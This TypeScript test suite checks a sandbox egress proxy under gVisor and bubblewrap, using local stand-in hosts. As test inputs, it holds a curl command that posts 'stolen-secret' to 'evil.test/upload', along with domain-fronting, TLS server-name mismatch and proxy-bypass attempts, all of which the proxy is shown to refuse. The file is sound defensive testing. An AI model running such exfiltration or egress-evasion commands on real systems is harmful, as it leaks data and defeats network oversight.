/**
 * Governed egress under real sandboxes (gVisor and bubblewrap): a job's only way out is its
 * egress proxy. Real clients inside the sandbox (curl, python, npm) talk to stand-in upstreams on
 * 127.0.0.1 through the proxy's test resolver (GATEHOUSE_EGRESS_TEST_HOSTS's map); nothing leaves
 * 127.0.0.1. The runner is driven directly with a fake edge callback for asks and records.
 */
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { once } from 'node:events';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { createServer as createTcpServer, type Server as TcpServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PROTOCOL_VERSION, type JobExit, type JobSpec, type SandboxKind } from '../../src/contracts/agent-protocol.ts';
import type { EgressAsk, EgressConnection, NetworkGrant } from '../../src/contracts/network.ts';
import type { EgressEdge } from '../../executor/egress/proxy.ts';
import { parseTestHosts } from '../../executor/egress/test-hosts.ts';
import { Agent } from '../../executor/agent.ts';
import { FakeEdge } from '../executor/fake-edge.ts';
import { JobRunner } from '../../executor/jobs/runner.ts';
import { silentLogger } from '../../executor/log.ts';
import type { LiveSink } from '../../executor/jobs/relay.ts';
import { startDriver } from '../../executor/sandbox/index.ts';
import type { SandboxDriver } from '../../executor/sandbox/types.ts';
import { jobSpec, requireTool, runtimes } from '../executor/helpers.ts';

const BIG = 8 << 20;
const live: LiveSink = { sendFrame: () => true, buffered: () => 0 };

function egressSuite(kind: SandboxKind & ('gvisor' | 'bwrap')): void {
  const available = requireTool(kind);
  const d = available ? describe : describe.skip;

  d(`egress under ${kind}`, () => {
    let root: string;
    let stateDir: string;
    let driver: SandboxDriver;
    let runner: JobRunner;
    let http: Server;
    let tcp: TcpServer;
    let httpPort = 0;
    let tcpPort = 0;
    /** Requests the upstream HTTP server saw. */
    const seen: { method: string; url: string; body: string }[] = [];
    /** Bytes each connection to the raw TCP upstream (the TLS stand-in) delivered. */
    const tcpBytes: number[] = [];
    const asks: EgressAsk[] = [];
    let records: EgressConnection[] = [];
    let curl = true;
    let n = 0;
    let tgz: Buffer;

    const edge: EgressEdge = {
      ask: (m) => {
        asks.push(m);
        setTimeout(
          () =>
            runner.egressAnswer({
              type: 'egress.answer',
              jobId: m.jobId,
              askId: m.askId,
              decision: m.host === 'asked-yes.test' ? 'allow' : 'deny',
              by: 'test',
            }),
          10,
        );
        return true;
      },
      log: (m) => records.push(...m.connections),
    };

    const grant = (more: Partial<NetworkGrant> = {}): NetworkGrant => ({
      mode: 'allowlist',
      allow: [{ host: 'registry.test' }, { host: 'tls.test' }],
      unlisted: 'deny',
      maxBytesUp: 1 << 20,
      maxBytesDown: 64 << 20,
      source: 'network',
      ...more,
    });

    async function run(p: Partial<JobSpec>): Promise<{ exit: JobExit; out: string; err: string; recs: EgressConnection[] }> {
      records = [];
      const r = runner.start(jobSpec({ jobId: `net-${kind}-${++n}`, timeoutMs: 90_000, network: grant(), ...p }), live, undefined, edge);
      if (!r.accepted) throw new Error(`${r.error.code}: ${r.error.message}`);
      const { exit } = await r.done;
      return { exit, out: exit.stdout, err: exit.stderr, recs: records };
    }

    const py = (code: string, p: Partial<JobSpec> = {}) => run({ command: 'python3', args: ['-c', code], ...p });

    beforeAll(async () => {
      root = realpathSync(mkdtempSync(join(tmpdir(), `gh-egress-ws-${kind}-`)));
      stateDir = mkdtempSync(join(tmpdir(), `gh-egress-${kind}-`));
      // A one-file npm package, packed the way npm publishes it (package/ at the top of a gzipped tar).
      const pkgDir = join(stateDir, 'pkgsrc');
      mkdirSync(join(pkgDir, 'package'), { recursive: true });
      writeFileSync(join(pkgDir, 'package', 'package.json'), JSON.stringify({ name: 'tiny-pkg', version: '1.0.0', main: 'index.js' }));
      writeFileSync(join(pkgDir, 'package', 'index.js'), "module.exports = 'tiny';\n");
      execFileSync('tar', ['-czf', join(stateDir, 'tiny.tgz'), '-C', pkgDir, 'package']);
      tgz = readFileSync(join(stateDir, 'tiny.tgz'));

      http = createServer((req, res) => {
        const chunks: Buffer[] = [];
        req.on('data', (c: Buffer) => chunks.push(c));
        req.on('end', () => {
          seen.push({ method: req.method ?? '', url: req.url ?? '', body: Buffer.concat(chunks).toString() });
          if (req.url === '/big') res.writeHead(200, { 'content-length': String(BIG) }).end(Buffer.alloc(BIG, 97));
          else if (req.url === '/tiny-pkg/-/tiny-pkg-1.0.0.tgz') res.writeHead(200, { 'content-type': 'application/octet-stream' }).end(tgz);
          else if (req.url === '/tiny-pkg') res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(packument(tgz)));
          else res.writeHead(200, { 'content-type': 'text/plain' }).end(`hello from upstream ${req.method} ${req.url}`);
        });
      });
      http.listen(0, '127.0.0.1');
      await once(http, 'listening');
      httpPort = (http.address() as { port: number }).port;
      tcp = createTcpServer((s) => {
        const i = tcpBytes.push(0) - 1;
        s.on('data', (b: Buffer) => (tcpBytes[i] += b.length));
        s.on('error', () => {});
      });
      tcp.listen(0, '127.0.0.1');
      await once(tcp, 'listening');
      tcpPort = (tcp.address() as { port: number }).port;

      const hosts = parseTestHosts(
        `registry.test=127.0.0.1:${httpPort},evil.test=127.0.0.1:${httpPort},asked-yes.test=127.0.0.1:${httpPort},asked-no.test=127.0.0.1:${httpPort},tls.test=127.0.0.1:${tcpPort}`,
      );
      if (!hosts.ok) throw new Error(hosts.message);
      const started = await startDriver(kind, { root, stateDir, warm: 0 }, silentLogger);
      if (!started.ok) throw new Error(started.error.message);
      driver = started.value;
      runner = new JobRunner({
        driver,
        runtimes: await runtimes(),
        root,
        spoolDir: join(stateDir, 'spool'),
        capacity: 2,
        ceilings: { maxTimeoutMs: 120_000, maxArtifactBytes: 16 << 20 },
        upload: null,
        log: silentLogger,
        egressTestHosts: hosts.hosts,
      });
      // curl inside the sandbox is what the checks below use: required on CI, a skip elsewhere.
      const probe = await run({ command: 'curl', args: ['--version'], network: undefined });
      curl = probe.exit.state === 'exited' && probe.exit.exitCode === 0;
      if (!curl && process.env.CI === 'true')
        throw new Error(`curl is required inside the ${kind} sandbox under CI=true: ${probe.exit.error?.message ?? probe.err}`);
      if (!curl) console.warn(`skipping the curl checks under ${kind}: curl does not run inside the sandbox (allowed outside CI only)`);
    }, 120_000);

    afterAll(async () => {
      await runner?.shutdown();
      await driver?.close();
      http?.closeAllConnections();
      http?.close();
      tcp?.close();
      rmSync(root, { recursive: true, force: true });
      rmSync(stateDir, { recursive: true, force: true });
    });

    it('curl through the proxy reaches an allowed host, and the connection is recorded', async (t) => {
      if (!curl) return t.skip();
      const r = await run({ command: 'curl', args: ['-sS', 'http://registry.test/hello'] });
      expect(r.exit.exitCode, r.err).toBe(0);
      expect(r.out).toBe('hello from upstream GET /hello');
      expect(r.recs).toHaveLength(1);
      expect(r.recs[0]).toMatchObject({ host: 'registry.test', port: 80, address: '127.0.0.1', method: 'GET', decision: 'allowed' });
    });

    it('curl -X POST to an unlisted host is refused with 403 naming the host and the policy key; the upstream sees nothing', async (t) => {
      if (!curl) return t.skip();
      const before = seen.length;
      const r = await run({ command: 'curl', args: ['-sS', '-X', 'POST', '-d', 'stolen-secret', '-w', '\n%{http_code}', 'http://evil.test/upload'] });
      expect(r.out).toContain('refused evil.test:80');
      expect(r.out).toContain('network.allow');
      expect(r.out.trim().endsWith('403')).toBe(true);
      expect(seen.slice(before).some((s) => s.body.includes('stolen-secret'))).toBe(false);
      expect(r.recs[0]).toMatchObject({ host: 'evil.test', decision: 'refused', method: 'POST' });
    });

    it('curl -H "Host: evil.test" to an allowed host is refused (domain fronting); the upstream sees nothing', async (t) => {
      if (!curl) return t.skip();
      const before = seen.length;
      const r = await run({ command: 'curl', args: ['-sS', '-H', 'Host: evil.test', '-w', '\n%{http_code}', 'http://registry.test/fronted'] });
      expect(r.out).toContain('host header mismatch: the request is for registry.test:80, its Host header names "evil.test"');
      expect(r.out.trim().endsWith('403')).toBe(true);
      expect(seen.slice(before).some((s) => s.url === '/fronted')).toBe(false);
      expect(r.recs[0]).toMatchObject({ host: 'registry.test', decision: 'refused', method: 'GET' });
    });

    it('a program that ignores the proxy env gets no connection: curl --noproxy and a python socket to the upstream port', async (t) => {
      if (!curl) return t.skip();
      const before = seen.length;
      const c = await run({ command: 'curl', args: ['-sS', '--max-time', '20', '--noproxy', '*', `http://127.0.0.1:${httpPort}/direct`] });
      expect(c.exit.exitCode).not.toBe(0);
      const named = await run({ command: 'curl', args: ['-sS', '--max-time', '20', '--noproxy', '*', 'http://registry.test/direct'] });
      expect(named.exit.exitCode).not.toBe(0);
      const p = await py(
        [
          'import socket',
          'for addr in [("127.0.0.1", ' + httpPort + '), ("registry.test", 80)]:',
          '  try:',
          '    socket.create_connection(addr, timeout=10); print("connected", addr)',
          '  except OSError as e:',
          '    print("refused", addr, type(e).__name__)',
        ].join('\n'),
      );
      expect(p.exit.exitCode, p.err).toBe(0);
      expect(p.out).not.toContain('connected');
      expect(p.out.match(/refused/g)).toHaveLength(2);
      expect(seen.slice(before).some((s) => s.url === '/direct')).toBe(false);
    });

    it('a tunnel whose TLS server name is not the CONNECT host is refused; a matching one goes through', async () => {
      const hello = (sni: string) =>
        [
          'import socket, ssl',
          's = socket.create_connection(("127.0.0.1", 3128), timeout=20)',
          's.sendall(b"CONNECT tls.test:443 HTTP/1.1\\r\\nHost: tls.test:443\\r\\n\\r\\n")',
          'head = b""',
          'while b"\\r\\n\\r\\n" not in head:',
          '  d = s.recv(1000)',
          '  if not d: break',
          '  head += d',
          'print(head.split(b"\\r\\n")[0].decode())',
          'ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE',
          's.settimeout(3)',
          'try:',
          `  ctx.wrap_socket(s, server_hostname=${JSON.stringify(sni)})`,
          'except Exception as e:',
          '  print("tls", type(e).__name__)',
        ].join('\n');
      const before = tcpBytes.length;
      const bad = await py(hello('evil.test'));
      expect(bad.out, bad.err).toContain('200');
      expect(bad.recs[0]).toMatchObject({ host: 'tls.test', decision: 'refused', bytesUp: 0 });
      expect(bad.recs[0].reason).toContain('sni mismatch');
      expect(tcpBytes.slice(before).every((b) => b === 0)).toBe(true);
      const good = await py(hello('tls.test'));
      expect(good.recs[0]).toMatchObject({ host: 'tls.test', decision: 'allowed' });
      expect(tcpBytes.slice(before).some((b) => b > 0)).toBe(true);
    });

    it('the byte cap ends a big download', async (t) => {
      if (!curl) return t.skip();
      const r = await run({
        command: 'curl',
        args: ['-sS', '-o', '/dev/null', '-w', '%{size_download}', 'http://registry.test/big'],
        network: grant({ maxBytesDown: 1 << 20 }),
      });
      expect(r.exit.exitCode).not.toBe(0);
      expect(Number(r.out)).toBeLessThan(BIG);
      expect(r.recs[0].reason).toContain('byte cap');
    });

    it('an unlisted host under ask waits for the edge: allowed goes through, denied is refused', async (t) => {
      if (!curl) return t.skip();
      asks.length = 0;
      const yes = await run({ command: 'curl', args: ['-sS', 'http://asked-yes.test/a'], network: grant({ unlisted: 'ask' }) });
      expect(yes.out).toBe('hello from upstream GET /a');
      const no = await run({ command: 'curl', args: ['-sS', 'http://asked-no.test/a'], network: grant({ unlisted: 'ask' }) });
      expect(no.out).toContain('not approved (test)');
      expect(asks.map((a) => a.host)).toEqual(['asked-yes.test', 'asked-no.test']);
    });

    it('through the agent: the ask and its answer travel on the agent socket, and the records arrive before the job.exit', async (t) => {
      if (!curl) return t.skip();
      const fe = new FakeEdge();
      await fe.start();
      const agent = new Agent({
        url: fe.url,
        token: fe.token,
        agentId: `egress-${kind}`,
        version: '0.1.0',
        capacity: 2,
        sandbox: kind,
        runtimes: (await runtimes()).list,
        runner,
        log: silentLogger,
      });
      agent.start();
      try {
        await fe.next((m) => m.type === 'hello', 30_000);
        fe.send({ type: 'welcome', v: PROTOCOL_VERSION, team: 'acme', heartbeatMs: 1000 });
        const jobId = `via-agent-${kind}`;
        const spec = jobSpec({
          jobId,
          command: 'curl',
          args: ['-sS', 'http://asked-yes.test/via-agent'],
          timeoutMs: 90_000,
          network: grant({ allow: [], unlisted: 'ask' }),
        });
        fe.send({ type: 'job.start', spec });
        const ask = await fe.next((m) => m.type === 'egress.ask' && m.jobId === jobId, 60_000);
        expect(ask).toMatchObject({ host: 'asked-yes.test', port: 80, method: 'GET' });
        fe.send({ type: 'egress.answer', jobId, askId: ask.askId, decision: 'allow', by: 'approval ap_9' });
        const exit = await fe.next((m) => m.type === 'job.exit' && m.jobId === jobId, 60_000);
        expect(exit).toMatchObject({ state: 'exited', exitCode: 0, stdout: 'hello from upstream GET /via-agent' });
        const iLog = fe.received.findIndex((m) => m.type === 'egress.log' && m.jobId === jobId);
        expect(iLog).toBeGreaterThanOrEqual(0);
        expect(iLog).toBeLessThan(fe.received.indexOf(exit));
        expect((fe.received[iLog].connections as EgressConnection[])[0]).toMatchObject({
          host: 'asked-yes.test',
          decision: 'allowed',
          reason: 'approved (approval ap_9)',
        });
      } finally {
        await agent.stop();
        await fe.stop();
      }
    });

    it('a job without a grant has no proxy: no socket in its job dir and no proxy variables', async () => {
      const r = await run({ command: 'sh', args: ['-c', 'ls -a /job; env | grep -i proxy; true'], network: undefined });
      expect(r.exit.exitCode).toBe(0);
      expect(r.out).not.toContain('egress');
      expect(r.out.toLowerCase()).not.toContain('proxy');
      expect(r.recs).toEqual([]);
    });

    (kind === 'gvisor' ? it : it.skip)(
      'npm ci installs a package from a local registry stand-in through the proxy',
      async () => {
        const proj = join(root, 'proj');
        mkdirSync(proj, { recursive: true });
        const integrity = `sha512-${createHash('sha512').update(tgz).digest('base64')}`;
        writeFileSync(join(proj, 'package.json'), JSON.stringify({ name: 'proj', version: '1.0.0', dependencies: { 'tiny-pkg': '1.0.0' } }));
        writeFileSync(
          join(proj, 'package-lock.json'),
          JSON.stringify({
            name: 'proj',
            version: '1.0.0',
            lockfileVersion: 3,
            requires: true,
            packages: {
              '': { name: 'proj', version: '1.0.0', dependencies: { 'tiny-pkg': '1.0.0' } },
              'node_modules/tiny-pkg': { version: '1.0.0', resolved: 'http://registry.test/tiny-pkg/-/tiny-pkg-1.0.0.tgz', integrity },
            },
          }),
        );
        // The job runs as the sandbox user: the project must be its to write node_modules in.
        if (process.getuid?.() === 0) execFileSync('chown', ['-R', '65534:65534', proj]);
        const r = await run({
          command: 'npm',
          args: ['ci', '--no-audit', '--no-fund', '--registry', 'http://registry.test/'],
          cwd: 'proj',
          env: { HOME: '/tmp', npm_config_cache: '/tmp/npm-cache', npm_config_update_notifier: 'false' },
          network: grant({ allow: [{ host: 'registry.test', methods: ['GET', 'HEAD'] }] }),
        });
        expect(r.exit.exitCode, `${r.out}\n${r.err}`).toBe(0);
        expect(readFileSync(join(proj, 'node_modules', 'tiny-pkg', 'index.js'), 'utf8')).toContain('tiny');
        expect(r.recs.some((c) => c.host === 'registry.test' && c.decision === 'allowed')).toBe(true);
        expect(existsSync(join(proj, 'node_modules'))).toBe(true);
      },
      120_000,
    );
  });
}

/** The registry document of the one-version package (what `npm install` reads; `npm ci` goes by the lock file). */
function packument(tgz: Buffer) {
  const integrity = `sha512-${createHash('sha512').update(tgz).digest('base64')}`;
  const shasum = createHash('sha1').update(tgz).digest('hex');
  return {
    name: 'tiny-pkg',
    'dist-tags': { latest: '1.0.0' },
    versions: {
      '1.0.0': {
        name: 'tiny-pkg',
        version: '1.0.0',
        main: 'index.js',
        dist: { tarball: 'http://registry.test/tiny-pkg/-/tiny-pkg-1.0.0.tgz', integrity, shasum },
      },
    },
  };
}

egressSuite('gvisor');
egressSuite('bwrap');
